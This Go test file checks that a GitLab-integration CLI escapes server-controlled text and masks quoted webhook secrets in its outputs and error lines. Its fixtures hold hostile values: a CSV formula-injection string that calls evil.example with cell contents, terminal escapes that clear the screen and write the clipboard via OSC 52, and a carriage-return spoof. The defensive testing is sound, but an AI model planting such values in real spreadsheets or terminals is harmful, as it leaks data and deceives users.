package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gitlabkit/integrations"
)

// Values a project maintainer can type into GitLab's web page: a formula
// for spreadsheets, terminal escapes (clear screen, OSC 52 writing the
// clipboard, BEL), a CR that overwrites the line.
const (
	formulaValue = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	escapeValue  = "\x1b[2J\x1b]52;c;ZXZpbA==\a"
	crValue      = "ok\rFAKE OUTPUT"
)

// hostileFixture sets up Slack on acme/web with the values above.
func hostileFixture(t *testing.T) []string {
	t.Helper()
	srv := newServer(t, "acme/web")
	c, err := srv.NewClient()
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.Slack.Set(context.Background(), integrations.Project("acme/web"), &integrations.SlackOptions{
		Webhook: sentinel, Channel: integrations.Ptr(formulaValue), Username: integrations.Ptr(escapeValue), PushChannel: integrations.Ptr(crValue),
		IssueChannel: integrations.Ptr("@SUM(1+1)"), NoteChannel: integrations.Ptr("\t=1"),
	})
	if err != nil {
		t.Fatal(err)
	}
	return env(srv)
}

// noRawControl fails when out holds a control character other than the
// line breaks and tabs of the output's own layout.
func noRawControl(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range out {
		if c < 0x20 && c != '\n' && c != '\t' || c == 0x7f {
			t.Errorf("%s: raw control character %U in output:\n%q", what, c, out)
			return
		}
	}
}

// noFormula fails when a CSV cell would start a spreadsheet formula.
func noFormula(t *testing.T, what, out string) {
	t.Helper()
	for _, row := range decodeCSV(t, out) {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: CSV cell %q starts a formula", what, c)
			}
		}
	}
}

func TestOutputsNeutraliseGitLabsText(t *testing.T) {
	e := hostileFixture(t)
	spec := filepath.Join(t.TempDir(), "fleet.yaml")
	if err := os.WriteFile(spec, []byte("version: 1\ntargets:\n  - project: acme/web\n    integrations:\n      slack:\n        webhook: ${env:W}\n        channel: '#x'\n        username: u\n        push_channel: p\n        issue_channel: i\n        note_channel: n\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	e = append(e, "W="+sentinel)
	for _, args := range [][]string{
		{"get", "slack", "--project", "acme/web", "-o", "csv"},
		{"audit", "--project", "acme/web", "-o", "csv"},
		{"plan", "-f", spec, "-o", "csv"},
	} {
		r := cli(t, e, args...)
		noFormula(t, strings.Join(args, " "), r.stdout)
		noRawControl(t, strings.Join(args, " "), r.stdout)
		// (audit writes the properties in one cell, key=value.)
		if !strings.Contains(r.stdout, `\x1b[2J\x1b]52;c;ZXZpbA==\a`) || args[0] != "audit" && !strings.Contains(r.stdout, `'=HYPERLINK(`) {
			t.Errorf("%v: the values are not shown escaped:\n%s", args, r.stdout)
		}
	}
	for _, args := range [][]string{
		{"get", "slack", "--project", "acme/web"},
		{"audit", "--project", "acme/web"},
		{"plan", "-f", spec, "-o", "table"},
		{"plan", "-f", spec, "-o", "text"},
		{"get", "slack", "--project", "acme/web", "-o", "yaml"},
		{"get", "slack", "--project", "acme/web", "-o", "json"},
		{"audit", "--project", "acme/web", "-o", "html"},
	} {
		r := cli(t, e, args...)
		noRawControl(t, strings.Join(args, " "), r.stdout+r.stderr)
		if !strings.Contains(r.stdout, `\x1b[2J`) && !strings.Contains(r.stdout, `\u001b[2J`) && !strings.Contains(r.stdout, `\e[2J`) {
			t.Errorf("%v: the escape is not shown escaped:\n%s", args, r.stdout)
		}
	}
}

// TestErrorLinesNeutraliseGitLabsText: GitLab's message in an error line
// reaches the terminal escaped.
func TestErrorLinesNeutraliseGitLabsText(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"message":"403 Forbidden \u001b]52;c;ZXZpbA==\u0007\u001b[2J\rFAKE"}`))
	}))
	t.Cleanup(srv.Close)
	r := cli(t, []string{"GITLAB_URL=" + srv.URL, "GITLAB_TOKEN=glpat-x"}, "list", "--project", "acme/web")
	r.fails(t, 1, `403 Forbidden \x1b]52;c;ZXZpbA==\a\x1b[2J`)
	noRawControl(t, "list", r.stderr)
}

// quotingGitLab answers every PUT with a 400 that quotes the body sent
// (webhook included), as a proxy or an old GitLab might, and every GET
// with an active Slack.
func quotingGitLab(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.Method == http.MethodGet {
			_, _ = w.Write([]byte(`{"id":1,"slug":"slack","title":"Slack","active":true,"properties":{"channel":"#c"}}`))
			return
		}
		body, _ := io.ReadAll(r.Body)
		var sent map[string]any
		_ = json.Unmarshal(body, &sent)
		w.WriteHeader(http.StatusBadRequest)
		msg, _ := json.Marshal(map[string]any{"message": map[string][]string{"webhook": {fmt.Sprint(sent["webhook"]) + " is not a valid URL"}}})
		_, _ = w.Write(msg)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestSetAndCopyNeverPrintASecretGitLabQuoted: GitLab's 400 quoting the
// webhook sent is printed with the webhook hidden.
func TestSetAndCopyNeverPrintASecretGitLabQuoted(t *testing.T) {
	srv := quotingGitLab(t)
	e := []string{"GITLAB_URL=" + srv.URL, "GITLAB_TOKEN=glpat-x", "W=" + sentinel}
	r := cli(t, e, "set", "slack", "--project", "acme/web", "webhook=${env:W}", "channel=#c")
	r.fails(t, 1, "(secret) is not a valid URL")
	r = cli(t, e, "copy", "--from", "project:acme/web", "--to", "project:acme/api", "--only", "slack", "--secret", "webhook=${env:W}")
	r.fails(t, 1, "(secret) is not a valid URL")
	r = cli(t, e, "copy", "--from", "project:acme/web", "--to", "project:acme/api", "--only", "slack", "--secret", "webhook=${env:W}", "-o", "json")
	if strings.Contains(r.stdout, "SENTINEL") || !strings.Contains(r.stdout, "(secret) is not a valid URL") {
		t.Errorf("copy -o json:\n%s", r.stdout)
	}
}
